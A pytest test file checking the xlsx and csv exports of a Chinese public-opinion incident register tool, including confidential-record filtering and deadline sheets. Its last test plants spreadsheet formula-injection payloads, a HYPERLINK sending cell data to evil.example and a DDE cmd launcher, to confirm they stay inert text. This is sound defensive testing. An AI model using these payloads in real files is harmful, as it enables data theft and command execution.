"""`yuqing export xlsx|csv`: the 台账 read back cell by cell."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml

from yuqing.cli import main

from .conftest import PROJECT
from .test_stats import NOW, small_register


@pytest.fixture
def small(register_dir: Any) -> Any:
    for record in small_register():
        register_dir.write(record)
    return register_dir


def export(root: Path, out: Path, *args: str) -> Any:
    assert main(["export", "xlsx", "--root", str(root), "--now", NOW, "--out", str(out), *args]) == 0
    return openpyxl.load_workbook(str(out))


def rows_by_id(sheet: Any) -> dict[str, dict[str, Any]]:
    header = [c.value for c in sheet[1]]
    return {row[0]: dict(zip(header, row)) for row in sheet.iter_rows(min_row=2, values_only=True)}


def test_ledger_sheet_cell_by_cell(small: Any, tmp_path: Path, capsys: Any) -> None:
    book = export(small.root, tmp_path / "台账.xlsx")
    # E is withdrawn, F confidential: neither is exported by default.
    assert capsys.readouterr().out == f"已导出 5 起事件(不含涉密事件)、9 项时限到 {tmp_path / '台账.xlsx'}\n"
    assert book.sheetnames == ["舆情台账", "时限", "统计"]
    sheet = book["舆情台账"]
    header = [c.value for c in sheet[1]]
    assert header[:17] == ["编号", "标题", "等级", "最高等级", "状态", "领域", "发生时间", "发现时间", "来源",
                           "来源平台", "转办单位", "责任单位", "协办单位", "首次上报", "首次回应", "平息时间", "归档时间"]
    assert header[17:19] == ["是否逾期", "逾期情况"]
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == f"A1:Y6"
    rows = rows_by_id(sheet)
    assert list(rows) == ["YQ-2025-0001", "YQ-2025-0002", "YQ-2025-0003", "YQ-2025-0004", "YQ-2025-0007"]
    c = rows["YQ-2025-0003"]
    assert (c["等级"], c["最高等级"], c["状态"], c["领域"], c["来源"], c["责任单位"]) == (
        "重大", "重大", "处置中", "产品质量", "自媒体", "产品质量安全监督管理科")
    assert c["发生时间"] == datetime(2025, 3, 10, 7, 0)
    assert c["发现时间"] == datetime(2025, 3, 10, 8, 0)
    assert c["首次上报"] == datetime(2025, 3, 10, 17, 0)
    assert c["首次回应"] is None and c["平息时间"] is None
    assert c["是否逾期"] == "是"
    assert c["逾期情况"] == "敏感、重大舆情 4 小时内上报:超时1小时;重大舆情 48 小时内回应:已逾期29天5小时"
    d = rows["YQ-2025-0004"]
    assert (d["等级"], d["最高等级"], d["首次回应"], d["平息时间"], d["归档时间"], d["评估总结"]) == (
        "一般", "特别重大", datetime(2025, 3, 12, 23, 0), datetime(2025, 3, 16, 10, 0),
        datetime(2025, 3, 18, 10, 0), datetime(2025, 3, 17, 10, 0))
    b = rows["YQ-2025-0002"]
    assert (b["是否逾期"], b["首次回应"]) == ("否", datetime(2025, 3, 5, 16, 0))
    # Formats and highlighting: C has an overdue deadline (red), A one met late (amber), B none.
    fills = {row[0].value: row[0].fill.fgColor.rgb for row in sheet.iter_rows(min_row=2)}
    assert fills["YQ-2025-0003"] == "00FFC7CE"
    assert fills["YQ-2025-0001"] == "00FFEB9C"
    assert fills["YQ-2025-0002"] == "00000000"
    assert sheet["H2"].number_format == "yyyy-mm-dd hh:mm"
    assert sheet["H2"].value == datetime(2025, 3, 3, 9, 0)
    assert sheet.column_dimensions["B"].width >= 20
    assert all(not (isinstance(cell.value, str) and cell.value.startswith("=")) for row in sheet.iter_rows()
               for cell in row)


def test_deadline_and_statistics_sheets(small: Any, tmp_path: Path) -> None:
    book = export(small.root, tmp_path / "台账.xlsx")
    deadlines = [dict(zip([c.value for c in book["时限"][1]], r))
                 for r in book["时限"].iter_rows(min_row=2, values_only=True)]
    assert [(d["编号"], d["规则编号"], d["状态"]) for d in deadlines] == [
        ("YQ-2025-0001", "first-reply-3wh", "按时完成"), ("YQ-2025-0001", "reply-3wd", "超时完成"),
        ("YQ-2025-0002", "report-4h", "按时完成"),
        ("YQ-2025-0003", "respond-48h", "已逾期"), ("YQ-2025-0003", "report-4h", "超时完成"),
        ("YQ-2025-0004", "report-2h", "按时完成"), ("YQ-2025-0004", "release-4h", "按时完成"),
        ("YQ-2025-0004", "press-24h", "超时完成"),
        ("YQ-2025-0007", "report-4h", "进行中"),
    ]
    reply = deadlines[1]
    assert (reply["起算时间"], reply["截止时间"], reply["完成时间"]) == (
        datetime(2025, 3, 3, 9, 0), datetime(2025, 3, 6, 17, 30), datetime(2025, 3, 7, 10, 0))
    stats = list(book["统计"].iter_rows(values_only=True))
    assert stats[3][:2] == ("合计(起)", 5)
    assert stats[4][:2] == ("时限按时率", 0.5)
    level = stats.index(("按等级(当前等级)",) + (None,) * (len(stats[0]) - 1))
    assert [r[:2] for r in stats[level + 2:level + 6]] == [("一般", 2), ("敏感", 2), ("重大", 1), ("特别重大", 0)]


def test_include_confidential_and_period(small: Any, tmp_path: Path) -> None:
    book = export(small.root, tmp_path / "a.xlsx", "--include-confidential")
    assert list(rows_by_id(book["舆情台账"]))[-2:] == ["YQ-2025-0006", "YQ-2025-0007"]
    assert rows_by_id(book["舆情台账"])["YQ-2025-0006"]["涉密"] == "是"
    book = export(small.root, tmp_path / "b.xlsx", "--since", "2025-04-01")
    assert list(rows_by_id(book["舆情台账"])) == ["YQ-2025-0007"]


def test_csv_has_bom_and_same_rows(small: Any, tmp_path: Path) -> None:
    out = tmp_path / "台账.csv"
    assert main(["export", "csv", "--root", str(small.root), "--now", NOW, "--out", str(out)]) == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:3] == ["编号", "标题", "等级"]
    assert [r[0] for r in rows[1:]] == ["YQ-2025-0001", "YQ-2025-0002", "YQ-2025-0003", "YQ-2025-0004",
                                        "YQ-2025-0007"]
    assert rows[3][7] == "2025-03-10 08:00"
    assert b"\r\n" in raw


def test_example_register_exports(tmp_path: Path) -> None:
    out = tmp_path / "台账.xlsx"
    assert main(["export", "xlsx", "--root", str(PROJECT), "--now", "2026-11-23T09:00:00+08:00",
                 "--out", str(out)]) == 0
    book = openpyxl.load_workbook(str(out))
    ids = list(rows_by_id(book["舆情台账"]))
    records = [yaml.safe_load(p.read_text(encoding="utf-8")) for p in (PROJECT / "incidents").rglob("*.yml")]
    expected = sorted(r["id"] for r in records if not r.get("withdrawn") and not r.get("confidential"))
    assert sorted(ids) == expected
    assert len(ids) == 24


def test_unwritable_output_is_fatal(small: Any, tmp_path: Path, capsys: Any) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")
    assert main(["export", "xlsx", "--root", str(small.root), "--now", NOW, "--out", str(blocker / "a.xlsx")]) == 2
    assert "无法写入" in capsys.readouterr().err


def test_a_file_with_errors_is_never_exported(register_dir: Any, tmp_path: Path, capsys: Any) -> None:
    """`confidential: yes` is an error (YAML 1.2 reads it as text): the record cannot be trusted
    to be public, so it stays out of the 台账 rather than leak."""
    from .conftest import base_incident

    register_dir.write(base_incident())
    secret = base_incident(id="YQ-2025-0002", title="不应外传的事件标题")
    secret["confidential"] = "yes"
    register_dir.write(secret)
    out = tmp_path / "台账.xlsx"
    export(register_dir.root, out)
    err = capsys.readouterr().err
    assert "1 个事件文件有错误,以下结果不含这些文件" in err
    ids = list(rows_by_id(openpyxl.load_workbook(out)["舆情台账"]))
    assert ids == ["YQ-2025-0001"]


def test_text_from_web_posts_never_becomes_a_formula(register_dir: Any, tmp_path: Path) -> None:
    from .conftest import base_incident

    title = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    register_dir.write(base_incident(title=title, source={"channel": "社交媒体", "platform": "+cmd|' /C calc'!A0"}))
    out = tmp_path / "台账.xlsx"
    export(register_dir.root, out)
    sheet = openpyxl.load_workbook(out)["舆情台账"]
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
    assert [c.value for c in cells] == [title] and all(c.data_type == "s" for c in cells)
    csv_out = tmp_path / "台账.csv"
    assert main(["export", "csv", "--out", str(csv_out), "--root", str(register_dir.root), "--now", NOW]) == 0
    text = csv_out.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in text and "'+cmd|" in text
    assert ",=HYPERLINK" not in text
